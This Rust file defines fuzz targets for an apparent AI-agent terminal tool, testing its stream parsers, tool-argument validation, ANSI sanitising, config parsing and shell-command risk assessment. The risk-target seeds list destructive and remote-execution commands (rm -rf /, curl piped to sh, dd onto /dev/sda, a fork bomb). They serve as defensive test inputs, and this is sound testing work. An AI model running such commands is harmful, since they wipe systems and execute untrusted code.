//! The fuzz targets: each feeds one generated input to a parser or
//! converter that sees foreign bytes (model streams, tool arguments, pane
//! output, config files) and checks the invariants that must hold for any
//! input. A panic, in the code under test or in an invariant, is a crash.

use std::path::Path;
use std::sync::OnceLock;

use ratatui::Terminal;
use ratatui::backend::TestBackend;
use ratatui::layout::Rect;
use serde_json::Value;
use vigil::agent::model::anthropic_wire::MessagesAssembler;
use vigil::agent::model::json_tags::{self, TextFilter};
use vigil::agent::model::sse::{StreamAssembler, parse_completion};
use vigil::config::Config;
use vigil::console::keys::Keymap;
use vigil::console::panes::mirror::MirrorPane;
use vigil::console::panes::pane::{Look, Pane};
use vigil::console::style::text;
use vigil::console::style::theme::Theme;
use vigil::exec::ExecutionContext;
use vigil::exec::tmux::script::{MarkerScanner, decode_output, tq};
use vigil::policy::risk::assess_command;
use vigil::tools::ToolDefinition;
use vigil::tools::ToolRegistry;
use vigil::tools::edit::{Edit, EditConfig};
use vigil::tools::fetch::{FetchConfig, FetchUrl};
use vigil::tools::files::{ReadFile, WriteFile};
use vigil::tools::search::{SearchConfig, WebSearch};
use vigil::tools::shell::{RunShell, ShellConfig};
use vigil::tools::time::TimeTool;
use vigil::tools::validate::{example_args, validate};

use super::Target;

fn b(s: &str) -> Vec<u8> {
    s.as_bytes().to_vec()
}

fn list(items: &[&str]) -> Vec<Vec<u8>> {
    items.iter().map(|s| b(s)).collect()
}

/// Every target, in report order.
pub fn all() -> Vec<Target> {
    vec![
        sse(),
        anthropic_sse(),
        validate_args(),
        tmux_output(),
        ansi_mirror(),
        sanitize(),
        config(),
        theme(),
        json_tags(),
        risk(),
        shell(),
    ]
}

/// Feed each line of `data` as one SSE payload; stop at the first error.
fn feed_lines<A>(data: &[u8], mut asm: A, feed: fn(&mut A, &str) -> bool, finish: fn(A)) {
    let text = String::from_utf8_lossy(data);
    for line in text.split('\n') {
        if !feed(&mut asm, line) {
            return;
        }
    }
    finish(asm);
}

const SSE_SEEDS: &[&str] = &[
    "{\"choices\":[{\"delta\":{\"role\":\"assistant\",\"content\":\"Hel\"}}]}\n{\"choices\":[{\"delta\":{\"content\":\"lo\"},\"finish_reason\":\"stop\"}]}\n[DONE]",
    "{\"choices\":[{\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"c1\",\"type\":\"function\",\"function\":{\"name\":\"run_shell\",\"arguments\":\"{\\\"comm\"}}]}}]}\n{\"choices\":[{\"delta\":{\"tool_calls\":[{\"index\":0,\"function\":{\"arguments\":\"and\\\":\\\"ls\\\"}\"}}]},\"finish_reason\":\"tool_calls\"}]}\n{\"choices\":[],\"usage\":{\"prompt_tokens\":5,\"completion_tokens\":7,\"total_tokens\":12}}\n[DONE]",
    "{\"choices\":[{\"delta\":{\"tool_calls\":[{\"index\":1,\"id\":\"b\",\"function\":{\"name\":\"time\",\"arguments\":\"{}\"}},{\"index\":0,\"id\":\"a\",\"function\":{\"name\":\"read_file\",\"arguments\":\"{\\\"path\\\":\\\"/etc/hosts\\\"}\"}}]}}]}\n[DONE]",
    "{\"error\":{\"message\":\"overloaded\",\"type\":\"server_error\"}}",
    "{\"id\":\"x\",\"object\":\"chat.completion\",\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\",\"content\":\"hi\",\"tool_calls\":[{\"id\":\"c\",\"type\":\"function\",\"function\":{\"name\":\"time\",\"arguments\":\"{}\"}}]},\"finish_reason\":\"tool_calls\"}]}",
];

const JSON_TOKENS: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    "\"",
    ":",
    ",",
    "null",
    "true",
    "-1",
    "1e999",
    "18446744073709551616",
    "\"index\":",
    "\"tool_calls\":",
    "\"arguments\":",
    "\"content\":",
    "\"delta\":",
    "\"choices\":",
    "\"finish_reason\":",
    "\"usage\":",
    "[DONE]",
    "\n",
    "\\u0000",
    "\\ud800",
    "\"index\":4294967295",
    "\"index\":-1",
    "\"index\":99999999999",
];

fn sse() -> Target {
    Target {
        name: "sse",
        seeds: list(SSE_SEEDS),
        tokens: list(JSON_TOKENS),
        run: |data| {
            feed_lines(
                data,
                StreamAssembler::new(),
                |a, l| a.feed(l).is_ok(),
                |a| {
                    let _ = a.finish();
                },
            );
            let _ = parse_completion(&String::from_utf8_lossy(data));
        },
    }
}

const ANTHROPIC_SEEDS: &[&str] = &[
    "{\"type\":\"message_start\",\"message\":{\"id\":\"m\",\"usage\":{\"input_tokens\":3,\"output_tokens\":1}}}\n{\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n{\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":\"Hi\"}}\n{\"type\":\"content_block_stop\",\"index\":0}\n{\"type\":\"message_delta\",\"delta\":{\"stop_reason\":\"end_turn\"},\"usage\":{\"output_tokens\":2}}\n{\"type\":\"message_stop\"}",
    "{\"type\":\"content_block_start\",\"index\":1,\"content_block\":{\"type\":\"tool_use\",\"id\":\"t\",\"name\":\"run_shell\",\"input\":{}}}\n{\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"{\\\"command\\\":\"}}\n{\"type\":\"content_block_delta\",\"index\":1,\"delta\":{\"type\":\"input_json_delta\",\"partial_json\":\"\\\"ls\\\"}\"}}\n{\"type\":\"content_block_stop\",\"index\":1}\n{\"type\":\"message_stop\"}",
    "{\"type\":\"error\",\"error\":{\"type\":\"overloaded_error\",\"message\":\"Overloaded\"}}",
];

fn anthropic_sse() -> Target {
    let mut tokens = list(JSON_TOKENS);
    tokens.extend(list(&[
        "\"type\":\"content_block_delta\"",
        "\"partial_json\":",
        "\"type\":\"tool_use\"",
        "\"index\":18446744073709551615",
    ]));
    Target {
        name: "anthropic_sse",
        seeds: list(ANTHROPIC_SEEDS),
        tokens,
        run: |data| {
            feed_lines(
                data,
                MessagesAssembler::new(),
                |a, l| a.feed(l).is_ok(),
                |a| {
                    let _ = a.finish();
                },
            );
            let _ =
                vigil::agent::model::anthropic_wire::parse_message(&String::from_utf8_lossy(data));
        },
    }
}

fn tool_defs() -> &'static [ToolDefinition] {
    static DEFS: OnceLock<Vec<ToolDefinition>> = OnceLock::new();
    DEFS.get_or_init(|| {
        let ctx = ExecutionContext::local();
        let mut r = ToolRegistry::new();
        r.register(RunShell::new(ctx.clone(), ShellConfig::default()));
        r.register(ReadFile::new(ctx.clone()));
        r.register(WriteFile::new(ctx.clone(), true));
        r.register(TimeTool::new());
        r.register(Edit::new(ctx, EditConfig::default()));
        r.register(FetchUrl::new(FetchConfig::default()));
        r.register(WebSearch::new(SearchConfig::default()));
        r.definitions()
    })
}

fn validate_args() -> Target {
    let mut seeds = Vec::new();
    for d in tool_defs() {
        let ex = example_args(&d.function.parameters);
        seeds.push(format!("{}\n{ex}", d.function.name).into_bytes());
    }
    seeds.extend(list(&[
        "run_shell\n{\"command\":\"ls\",\"timeout_secs\":\"30\",\"risk\":\"LOW\",\"extra\":1}",
        "read_file\n{\"path\":[\"/etc\"],\"offset\":-5,\"limit\":1e300}",
        "edit\n{\"path\":\"a\",\"edits\":[{\"old\":\"x\",\"new\":null}]}",
        "fetch_url\n\"{\\\"url\\\":\\\"http://x\\\"}\"",
    ]));
    let mut tokens = list(JSON_TOKENS);
    tokens.extend(list(&[
        "\"command\":",
        "\"path\":",
        "\"timeout_secs\":",
        "\"risk\":",
    ]));
    Target {
        name: "validate",
        seeds,
        tokens,
        run: |data| {
            let text = String::from_utf8_lossy(data);
            let (name, json) = text.split_once('\n').unwrap_or(("", &text));
            let Ok(args) = serde_json::from_str::<Value>(json) else {
                return;
            };
            for d in tool_defs() {
                if name.is_empty() || d.function.name == name || name.len() == 1 {
                    if let Ok(v) = validate(d, args.clone()) {
                        assert!(v.args.is_object(), "validated args are an object");
                    }
                }
            }
        },
    }
}

fn tmux_output() -> Target {
    Target {
        name: "tmux_output",
        seeds: list(&[
            "hello\\015\\012world\\033]5379;tok;rc;0\\007",
            "\x1b]5379;tok;o\x07\x1b]5379;tok;e\x07\x1b]5379;tok;rc;127\x07",
            "\x1b]5379;tok;probe\x07partial\x1b]5379;to",
            "\x1b]5379;other;rc;1\x07\x1b]5379;tok;rc;-2147483648\x07",
        ]),
        tokens: list(&[
            "\x1b]5379;tok;",
            "\x07",
            "rc;",
            "\\033",
            "\\007",
            "\\377",
            "\\",
            "o",
            "e",
            "probe",
            "99999999999",
        ]),
        run: |data| {
            let decoded = decode_output(data);
            assert!(decoded.len() <= data.len(), "decoding never grows");
            let mut whole = MarkerScanner::new("tok");
            let all = whole.push(data);
            // Same stream, cut into chunks: the same markers.
            let mut chunked = MarkerScanner::new("tok");
            let step = 1 + usize::from(data.first().copied().unwrap_or(7) % 13);
            let mut parts = Vec::new();
            for c in data.chunks(step) {
                parts.extend(chunked.push(c));
            }
            assert_eq!(all, parts, "markers independent of chunking");
            let q = tq(&String::from_utf8_lossy(data));
            assert!(
                !q.bytes().any(|b| b < 0x20),
                "quoted text has no raw controls"
            );
        },
    }
}

fn terminal() -> &'static std::sync::Mutex<Terminal<TestBackend>> {
    static T: OnceLock<std::sync::Mutex<Terminal<TestBackend>>> = OnceLock::new();
    T.get_or_init(|| {
        std::sync::Mutex::new(Terminal::new(TestBackend::new(40, 12)).expect("test backend"))
    })
}

const ANSI_TOKENS: &[&str] = &[
    "\x1b[",
    "\x1b[0m",
    "\x1b[38;5;",
    "\x1b[48;2;",
    "\x1b[1;31m",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "\x1b[H",
    "\x1b[999;999H",
    "\x1b[?1049h",
    "\x1bP",
    "\x1b\\",
    "\u{9b}",
    "m",
    ";",
    "255",
    "99999999999",
    "\t",
    "\r",
    "\u{202e}",
    "é",
    "漢",
    "\u{200d}",
    "\u{fe0f}",
];

fn ansi_mirror() -> Target {
    Target {
        name: "ansi_mirror",
        seeds: list(&[
            "\x1b[1;32muser@host\x1b[0m:\x1b[34m~\x1b[0m$ ls\n\x1b[38;5;208mfile\x1b[0m\n",
            "\x1b[38;2;10;20;30mtrue\x1b[48;5;17mcolour\x1b[39;49m\x1b[4munder\x1b[24m\n",
            "plain\ttab\r\nwide 漢字 and emoji 👍\n",
        ]),
        tokens: list(ANSI_TOKENS),
        run: |data| {
            let text = String::from_utf8_lossy(data);
            let mut pane = MirrorPane::default();
            pane.set_content(&text);
            let theme = Theme::default();
            let Ok(mut term) = terminal().lock() else {
                return;
            };
            let keys = Keymap::default();
            let look = Look {
                theme: &theme,
                keys: &keys,
                focused: true,
            };
            let _ = term.draw(|f| pane.render(f, Rect::new(0, 0, 40, 12), &look));
        },
    }
}

fn sanitize() -> Target {
    Target {
        name: "sanitize",
        seeds: list(&[
            "ok\n\x1b[31mred\x1b[0m\x1b]0;pwned\x07\x1b[2J\x1b[H",
            "\u{9b}31m\u{9d}8;;http://x\u{9c}\u{202e}txt.exe\ttab",
            "漢字\t👍\u{1}\u{7f}",
        ]),
        tokens: list(ANSI_TOKENS),
        run: |data| {
            let text = String::from_utf8_lossy(data);
            let clean = vigil_protocol::text::sanitize(&text);
            assert!(
                !clean.chars().any(|c| c != '\n' && c.is_control()),
                "sanitize leaves no control characters"
            );
            let width = 1 + data.len() % 50;
            for line in text::wrap(&clean, width) {
                assert!(text::str_width(&line) <= width.max(2), "wrapped line fits");
            }
            let one = text::one_line(&text, width);
            assert!(!one.contains('\n'));
            let _ = text::truncate_chars(&text, width);
        },
    }
}

fn config() -> Target {
    let example = include_str!("../../config.example.toml");
    Target {
        name: "config",
        seeds: vec![
            b(example),
            b("[model]\nbase_url = \"http://x/v1\"\nmodel = \"m\"\n"),
            b("[tools]\nshell_timeout_secs = 0\n[console]\ntheme = \"light\"\n"),
        ],
        tokens: list(&[
            "[model]",
            "[tools]",
            "[console]",
            "[[",
            "]]",
            "=",
            "\"",
            "'''",
            "\n",
            "#",
            "-9223372036854775808",
            "1e400",
            "inf",
            "nan",
            "true",
            "{}",
            "[]",
            ".",
            "\\u0000",
        ]),
        run: |data| {
            let _ = Config::from_toml(&String::from_utf8_lossy(data), Path::new("fuzz.toml"));
        },
    }
}

fn theme() -> Target {
    Target {
        name: "theme",
        seeds: vec![
            b(include_str!("../../themes/dark.toml")),
            b(include_str!("../../themes/light.toml")),
            b(include_str!("../../themes/high-contrast.toml")),
        ],
        tokens: list(&[
            "fg", "bg", "=", "\"#", "ffffff", "\"", "{", "}", "[", "]", "\n", "bold", "red",
            "rgb(", "999", "-1", "#", "\"\"",
        ]),
        run: |data| {
            let text = String::from_utf8_lossy(data);
            let _ = Theme::parse("fuzz", &text, "fuzz.toml", None);
        },
    }
}

fn json_tags() -> Target {
    Target {
        name: "json_tags",
        seeds: list(&[
            "I will look.\n<json>{\"tool_name\":\"run_shell\",\"tool_input\":{\"command\":\"ls\"}}</json>",
            "<json>{\"tool_name\":\"time\",\"tool_input\":{}}</json> and <json>{\"tool_name\":\"read_file\",\"tool_input\":{\"path\":\"/x\"}}</json>",
            "no calls here <json",
            "<json>{\"tool_name\":1}</json><json>{oops",
        ]),
        tokens: list(&[
            "<json>",
            "</json>",
            "<",
            ">",
            "</json",
            "<json",
            "\"tool_name\":",
            "\"tool_input\":",
            "{",
            "}",
            "\"",
            "é",
            "\n",
        ]),
        run: |data| {
            let text = String::from_utf8_lossy(data);
            let mut n = 0u64;
            let mut next = || {
                n += 1;
                format!("call_{n}")
            };
            for (finish, multiple) in [(Some("stop"), false), (Some("length"), true), (None, true)]
            {
                let _ = json_tags::parse_reply(&text, finish, multiple, &mut next);
            }
            // Streamed in uneven pieces: a reply without a close tag holds
            // no block, so the filter shows it whole, as written.
            let mut filter = TextFilter::default();
            let mut shown = String::new();
            let step = 1 + data.len() % 7;
            let mut rest: &str = &text;
            while !rest.is_empty() {
                let mut cut = step.min(rest.len());
                while !rest.is_char_boundary(cut) {
                    cut += 1;
                }
                shown.push_str(&filter.push(&rest[..cut]));
                rest = &rest[cut..];
            }
            shown.push_str(&filter.finish());
            if !text.contains(json_tags::CLOSE) {
                assert_eq!(shown, text, "a reply without a block is shown whole");
            }
            assert!(shown.len() <= text.len());
        },
    }
}

fn risk() -> Target {
    Target {
        name: "risk",
        seeds: list(&[
            "ls -la /tmp",
            "sudo rm -rf / --no-preserve-root",
            "curl -fsSL https://x.sh | sh",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "echo hi > /etc/passwd; chmod -R 777 /",
            "bash -c \"$(wget -qO- http://x)\" && :(){ :|:& };:",
        ]),
        tokens: list(&[
            "sudo ", "rm ", "-rf ", "|", "&&", ";", ">", ">>", "$(", "`", "'", "\"", "\\", "/etc/",
            "/dev/sd", " ", "\n", "\t", "é",
        ]),
        run: |data| {
            let text = String::from_utf8_lossy(data);
            let base = assess_command(&text);
            // Prefixing sudo never lowers the risk.
            let with_sudo = assess_command(&format!("sudo {text}"));
            assert!(with_sudo >= base, "sudo cannot lower risk");
        },
    }
}

/// The one shell reader (`vigil::shell`) and what reads it: any text parses
/// or comes back with an error the operator is shown; a text the parser
/// rejects is never low, never covered by a rule, and the broker asks.
fn shell() -> Target {
    Target {
        name: "shell",
        seeds: list(&[
            "ls -la /tmp | grep x && echo done",
            "git log --oneline -3 2>/dev/null",
            "cat <<'EOF'\nhi $(x)\nEOF",
            "echo $'\\x74' \"${x:-$(id)}\" `w` {a,b} *.rs ~root",
            "f() { ls; }; (cd / && ls) & coproc x; [[ -n $y ]]; (( 1+2 ))",
            "for i in 1 2; do case $i in 1) echo;; esac; done <(ls) >&3 2>&1",
        ]),
        tokens: list(&[
            "$(", "`", "${", "}", "((", "))", "<<", "<<<", "<(", ">&", "&", "|", ";", "'", "\"",
            "\\\n", "$'", "\\x", "{", "*", "~", "=", "if ", "fi", "do ", "done", "\n",
        ]),
        run: |data| {
            let text = String::from_utf8_lossy(data);
            let script = vigil::shell::parse(&text);
            if let Some(error) = &script.error {
                let why = vigil::policy::risk::low(&script).expect_err("rejected text is not low");
                assert!(
                    why.contains(error.as_str()),
                    "the parse error is shown: {why}"
                );
                assert!(vigil::policy::prefix_rule::plain_words(&script).is_none());
                let preview = shell_broker().preview(
                    "run_shell",
                    &vigil_protocol::approval::GateInfo::shell(&text),
                );
                assert!(
                    matches!(preview.outcome, vigil::agent::approval::Outcome::Ask(_)),
                    "rejected text is asked for: {:?}",
                    preview.outcome
                );
                assert!(preview.assessment.reason.contains(error.as_str()));
            }
            if vigil::policy::risk::low(&script).is_ok() {
                assert!(script.is_plain(), "low implies plain");
                assert!(
                    script
                        .commands
                        .iter()
                        .all(|c| c.assignments.is_empty() && c.literal_words().is_some())
                );
            }
        },
    }
}

/// auto_low, a sandbox, a session rule: the most permissive broker.
fn shell_broker() -> &'static vigil::agent::approval::ApprovalBroker {
    static BROKER: OnceLock<vigil::agent::approval::ApprovalBroker> = OnceLock::new();
    BROKER.get_or_init(|| {
        let (tx, rx) = tokio::sync::mpsc::unbounded_channel();
        std::mem::forget(rx);
        let broker = vigil::agent::approval::ApprovalBroker::new(
            tx,
            "local".into(),
            vigil::agent::approval::Policy::AutoApproveLow,
        );
        broker.set_can_sandbox(true);
        broker.add_prefix("run_shell", "ls");
        broker
    })
}
